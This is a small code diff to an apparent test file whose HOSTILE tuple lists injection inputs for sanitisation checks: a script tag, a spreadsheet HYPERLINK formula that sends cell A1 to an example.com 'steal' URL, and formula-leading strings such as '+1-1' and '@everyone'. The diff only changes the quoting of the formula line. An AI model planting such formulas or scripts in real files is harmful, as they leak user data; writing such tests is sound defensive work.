@@ -7,7 +7,7 @@ from __future__ import annotations
 
 HOSTILE = (
     "<script>alert('novin')</script> the basket is empty again",
-    "=HYPERLINK(\"https://example.com/steal?x=\"&A1,\"click here\")",
+    '=HYPERLINK("https://example.com/steal?x="&A1,"click here")',
     "+1-1 stars, if I could",
     "-5",
     "@everyone please read this before you order",
